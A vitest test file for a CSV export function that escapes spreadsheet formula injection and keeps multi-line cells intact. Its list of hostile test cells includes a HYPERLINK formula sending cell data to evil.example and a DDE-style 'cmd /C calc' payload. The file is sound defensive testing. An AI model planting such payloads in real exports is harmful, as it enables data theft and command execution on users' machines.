import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

/** The file's lines without the byte-order mark. */
const linesOf = (text: string) =>
  text
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .filter(Boolean);

/** The file read back by an independent parser (csv-parse), as a spreadsheet import would. */
const readBack = (text: string): string[][] =>
  parse(text, { bom: true, delimiter: ';', record_delimiter: '\r\n', relax_column_count: false });

/** Whether a spreadsheet could read this line of a cell as a formula. */
const startsLikeFormula = (line: string) => /^[=+\-@\t\r]/.test(line);

describe('toCsv', () => {
  it('writes a header and rows separated by semicolons, with a byte-order mark for Excel', () => {
    const text = toCsv(['Datum', 'Knelpunt'], [['2026-11-23', 'Geen bed in hospice']]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(linesOf(text)).toEqual(['Datum;Knelpunt', '2026-11-23;Geen bed in hospice']);
  });

  it.each([
    ['=HYPERLINK("http://x")', `"'=HYPERLINK(""http://x"")"`],
    ['+31 6 1234', "'+31 6 1234"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
  ])('escapes a cell that starts like a formula: %s', (cell, written) => {
    expect(linesOf(toCsv(['Tekst'], [[cell]]))[1]).toBe(written);
  });

  it('quotes cells with a semicolon, quote or line break so columns stay in place', () => {
    const text = toCsv(['A', 'B'], [['een; twee', 'regel 1\nregel "2"']]);
    expect(text).toContain('"een; twee";"regel 1\nregel ""2"""');
  });

  it('writes numbers as they are and empty cells for null', () => {
    expect(linesOf(toCsv(['Aantal', 'Noemer'], [[3, null]]))[1]).toBe('3;');
    expect(linesOf(toCsv(['Saldo'], [[-2]]))[1]).toBe('-2');
  });

  // Knelpunten can arrive through the sync API with any text in them (issue 13).
  const hostile = [
    'Geen bed\n=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "regel 1\r\n+cmd|' /C calc'!A0",
    'alleen CR\r-2+3',
    'lijn\u2028@SUM(1;2)',
    'tab\n\t=1+1',
    'vt\u000b=1',
    'ff\u000c=1',
    'nel\u0085=1',
    'ps\u2029=1',
    '=eerst\n=en dan\n\n-leeg ertussen',
    'geen formule\nmaar wel; een "quote"',
  ];

  it.each(hostile)('keeps a hostile cell in one cell, every line escaped: %j', (cell) => {
    const rows = readBack(toCsv(['Datum', 'Knelpunt', 'Aantal'], [['2026-11-23', cell, 3]]));
    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(3);
    const [date, text, count] = rows[1] ?? [];
    expect(date).toBe('2026-11-23');
    expect(count).toBe('3');
    const lines = (text ?? '').split('\n');
    expect(lines.filter(startsLikeFormula)).toEqual([]);
    // Nothing is lost: without the escape quotes, the lines are the original ones.
    // eslint-disable-next-line no-control-regex -- vertical tab and form feed are line breaks here
    const original = cell.split(/\r\n|[\n\r\u000B\u000C\u0085\u2028\u2029]/);
    expect(lines.map((line) => line.replace(/^'(?=[=+\-@\t\r])/, ''))).toEqual(original);
  });

  it('reads back many hostile rows as exactly as many records', () => {
    const rows = hostile.map((cell, index) => [index, cell]);
    const records = readBack(toCsv(['Nr', 'Tekst'], rows));
    expect(records.map((record) => record[0])).toEqual(['Nr', ...hostile.map((_, index) => String(index))]);
    for (const record of records) expect(record).toHaveLength(2);
  });

  it('quotes a cell with any line break, so a parser that splits rows on LF or CR still sees one row', () => {
    const text = toCsv(['Tekst'], [['a\rb'], ['c\u2028d']]);
    expect(linesOf(text).slice(1).join('\r\n')).toBe('"a\nb"\r\n"c\nd"');
  });
});
